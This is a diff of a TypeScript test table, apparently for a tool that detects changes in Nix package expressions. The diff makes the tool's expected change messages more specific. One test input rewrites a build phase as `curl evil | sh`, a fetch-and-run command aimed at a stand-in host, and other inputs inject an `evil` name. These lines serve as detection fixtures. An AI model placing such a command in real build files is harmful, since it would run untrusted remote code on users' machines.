@@ -44,13 +44,13 @@ const EDITS: readonly (readonly [string, string, ...Edit[]])[] = [
   ["a changed phase", "`postPatch` differs", ["sed -i", "curl evil | sh; sed -i"]],
   ["an added phase", "`preBuild` was added", ["doCheck", 'preBuild = "evil"; doCheck']],
   ["a removed binding", "`buildInputs` was removed", ["buildInputs = [ zlib ];", ""]],
-  ["another argument", "the expression of the file differs", ["zlib, fetchpatch", "zlib, fetchpatch, evil"]],
+  ["another argument", "the argument `evil` was added", ["zlib, fetchpatch", "zlib, fetchpatch, evil"]],
   [
     "an argument's default",
-    "the expression of the file differs",
+    "the default of the argument `zlib` differs",
     ["zlib, fetchpatch", "zlib ? evil, fetchpatch"],
   ],
-  ["any arguments", "the expression of the file differs", ["fetchpatch }", "fetchpatch, ... }"]],
+  ["any arguments", "`...` among the arguments was added", ["fetchpatch }", "fetchpatch, ... }"]],
   ["an operator", "`doCheck` differs", ["a.b or c", "!(a.b or c)"]],
   ["a default", "`doCheck` differs", ["a.b or c", "a.b"]],
   ["parentheses that join a call", "`extra` differs", ["[ lib zlib ]", "[ (lib zlib) ]"]],
@@ -60,17 +60,17 @@ const EDITS: readonly (readonly [string, string, ...Edit[]])[] = [
   ["an inherited name", "`inherit` was added", ["doCheck", "inherit evil; doCheck"]],
   [
     "with around it",
-    "the expression of the file differs",
+    "`with evil; stdenv.mkDerivation",
     ["stdenv.mkDerivation (", "with evil; stdenv.mkDerivation ("],
   ],
   [
     "let around it",
-    "the expression of the file differs",
+    "`let lib = 1; in stdenv.mkDerivation",
     ["stdenv.mkDerivation (", "let lib = 1; in stdenv.mkDerivation ("],
   ],
   [
     "assert before it",
-    "the expression of the file differs",
+    "`assert evil; stdenv.mkDerivation",
     ["stdenv.mkDerivation (", "assert evil; stdenv.mkDerivation ("],
   ],
   [
